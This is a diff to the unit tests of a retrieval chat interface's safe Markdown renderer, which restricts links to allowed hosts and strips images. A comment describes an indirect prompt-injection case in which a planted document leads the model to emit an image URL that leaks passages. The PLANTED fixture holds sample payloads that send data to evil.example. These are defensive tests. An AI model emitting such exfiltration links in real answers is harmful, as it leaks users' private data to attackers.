@@ -5,7 +5,8 @@ from __future__ import annotations
 import pytest
 
 from ragfn.core.uris import document_name
-from ui.views import badges, source_link, timing_line
+from ui.safe_markdown import SafeMarkdown
+from ui.views import badges, plain, timing_line
 
 pytestmark = pytest.mark.unit
 
@@ -32,7 +33,52 @@ def test_the_timing_line_names_each_stage_and_the_total() -> None:
     assert timing_line({}) == ""
 
 
-def test_sources_link_when_a_browser_can_open_them() -> None:
-    assert source_link("https://docs.example.com/a.html") == "[https://docs.example.com/a.html](https://docs.example.com/a.html)"
-    assert source_link("s3://bucket/team docs/faq.md") == "`s3://bucket/team docs/faq.md`"
+def test_sources_link_only_to_allowed_hosts() -> None:
+    safe = SafeMarkdown(frozenset({"docs.example.com"}))
+    assert safe.link("https://docs.example.com/a.html") == (
+        '<a href="https://docs.example.com/a.html" rel="noopener noreferrer nofollow" target="_blank">'
+        "https://docs.example.com/a.html</a>")
+    assert safe.link("https://elsewhere.example/a.html") == "<code>https://elsewhere.example/a.html</code>"
+    assert safe.link("s3://bucket/team docs/faq.md") == "<code>s3://bucket/team docs/faq.md</code>"
+    assert safe.link('https://x/"><img src=y>') == "<code>https://x/&quot;&gt;&lt;img src=y&gt;</code>"
     assert document_name("file:///srv/docs/sorting.md") == "sorting.md" and document_name("gs://b/") == "b"
+
+
+
+
+# Security: answers, headings and sources were Markdown in the page, so a planted document could make the model
+# write an image whose address carries the passages a privileged reader was shown, and the browser fetched it.
+PLANTED = ("Salaries are reviewed in spring [1]. ![status](https://evil.example/c?d=salary-bands) "
+           "[details](https://evil.example/x) <img src=https://evil.example/y.png> "
+           "![][logo]\n\n[logo]: https://evil.example/z.png")
+
+
+def test_an_answer_never_loads_an_image_or_links_off_the_allowlist() -> None:
+    html = SafeMarkdown(frozenset({"docs.example.com"})).html(PLANTED)
+    assert "<img" not in html and 'href="https://evil' not in html and "src=" not in html.replace("&lt;img src", "")
+    assert "[image: status]" in html and "<code>https://evil.example/x</code>" in html
+    assert "Salaries are reviewed in spring [1]." in html
+
+
+def test_the_chat_shows_answers_and_citations_without_markdown() -> None:
+    from streamlit.testing.v1 import AppTest
+
+    def page(planted: str) -> None:
+        from ui.safe_markdown import SafeMarkdown
+        from ui.views import render_citations, render_markdown
+
+        safe = SafeMarkdown()
+        render_markdown(planted, safe)
+        render_citations([{"n": 1, "source": "https://evil.example/![x](https://evil.example/l.png)",
+                           "heading_path": "Pay > ![h](https://evil.example/h.png)", "text": "bands"}], safe)
+
+    at = AppTest.from_function(page, args=(PLANTED,)).run()
+    assert not at.exception and not at.markdown
+    shown = " ".join(element.value for element in at.get("html"))
+    assert "<img" not in shown and 'href="https://evil' not in shown and "[image: status]" in shown
+    label = at.get("popover")[0].proto.popover.label
+    assert label.startswith("[1] ") and "![" not in label.replace("\\!\\[", "")
+
+
+def test_plain_escapes_every_markdown_character() -> None:
+    assert plain("![a](http://x) **b** key:dev.md") == "\\!\\[a\\]\\(http://x\\) \\*\\*b\\*\\* key:dev.md"
